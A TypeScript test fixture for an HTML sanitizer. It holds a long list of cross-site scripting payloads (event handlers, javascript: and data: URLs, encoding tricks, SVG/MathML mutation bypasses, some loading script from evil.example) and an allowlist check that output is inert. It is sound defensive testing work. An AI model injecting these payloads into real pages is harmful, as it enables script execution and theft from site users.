import { expect } from 'vitest';

const NUL = '\u0000';

/**
 * Hostile HTML: the families of OWASP's filter evasion list and of DOMPurify's own tests
 * (handlers, URLs, encodings, foreign content, mutation, clobbering, resources, forms).
 */
export const HOSTILE_HTML: readonly string[] = [
  // Scripts, whole, split, broken and nested
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/.j>',
  '<script>alert(1)//',
  "<script a='>' src='https://evil.example/x.js'></script>",
  '<p><script type="module">import("https://evil.example/x.js")</script>',
  '<script type="text/javascript">\n<!--\nalert(1)\n-->\n</script>',
  `<scr${NUL}ipt>alert(1)</scr${NUL}ipt>`,
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" alt=x>',
  '<img src="/art/x.webp" onload=alert(1)>',
  "<img src='x' ONERROR='alert(1)'>",
  '<img """><script>alert("XSS")</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x\nonerror=alert(1)>',
  '<img src=x onerror\u000c=\u000calert(1)>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  '<a href=/blog onclick=alert(1)>x</a>',
  '<h2 onpointerenter=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</h2>',
  '<blockquote onwheel=alert(1) onscrollend=alert(1)>x</blockquote>',
  '<body onload=alert(1)><p>x</p></body>',
  '<body background="javascript:alert(1)">',
  '<figure ontoggle=alert(1) popover id=x><img src=/a onbeforetoggle=alert(1)></figure>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  // URLs
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#14; javascript:alert(1);">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="/blog" ping="https://evil.example/" target="_blank" download>x</a>',
  '<a href=https://evil.example/ rel="opener">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="//evil.example/x.png">',
  '<img src="/a.webp" srcset="https://evil.example/x.png 1x" sizes="100vw">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="javascript:alert(1)">x</q>',
  // Styles
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Frames, objects, media, resources
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"><p>x</p></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<picture><source srcset="x" onerror="alert(1)"><img src=x></picture>',
  '<base href="https://evil.example/"><a href="/blog">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<portal src="https://evil.example/"></portal>',
  // SVG, MathML and what mutates between them
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<table><tr><td><svg><desc><table><style><img src=x onerror=alert(1)></style></table></desc></svg>',
  '<a href="/blog"><table><a href="javascript:alert(1)">x</a></table></a>',
  // Comments, declarations, raw text
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--- <p title="--!><img src=x onerror=alert(1)>">-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  // Forms, clobbering, custom elements
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<form><input name=attributes><input name=parentNode></form>',
  '<img name=body src=/a.webp><a id=location href=/blog>x</a>',
  '<x-widget onclick=alert(1)>x</x-widget><p is="x-widget">x</p>',
  '<p slot=x shadowrootmode=open data-x="1" aria-label="x" role=button contenteditable>x</p>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<dialog open oncancel=alert(1)>x</dialog>',
];

const ELEMENTS =
  /^(?:h[2-4]|p|br|hr|blockquote|pre|[uo]l|li|d[ltd]|figure|figcaption|img|a|strong|b|em|i|s|small|su[bp]|abbr|cite|q|time|code|table|caption|col|colgroup|thead|tbody|tfoot|t[rhd])$/;
const ATTRIBUTES =
  /^(?:href|rel|src|alt|width|height|loading|decoding|referrerpolicy|title|lang|datetime|start|reversed|colspan|rowspan|scope)$/;
const ADDRESS = /^(?:https:\/\/[a-z0-9.-]+(?:[:/?#]|$)|\/(?![/\\]))/i;

/** Expects that nothing below the root can run, or leave the site except by an https link. */
export function expectInert(root: Element): void {
  for (const element of root.querySelectorAll('*')) {
    expect(element.localName).toMatch(ELEMENTS);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(ATTRIBUTES);
      if (name === 'href' || name === 'src') {
        expect(value).toMatch(ADDRESS);
        const { protocol, username } = new URL(value, 'https://own.example');
        expect([protocol, username]).toEqual(['https:', '']);
        if (value.startsWith('/')) {
          expect(new URL(value, 'https://own.example').host).toBe('own.example');
        }
      }
    }
    if (element.localName === 'a') expect(element.getAttribute('rel')).toBe('noopener');
    for (const node of element.childNodes) expect([1, 3]).toContain(node.nodeType);
  }
}
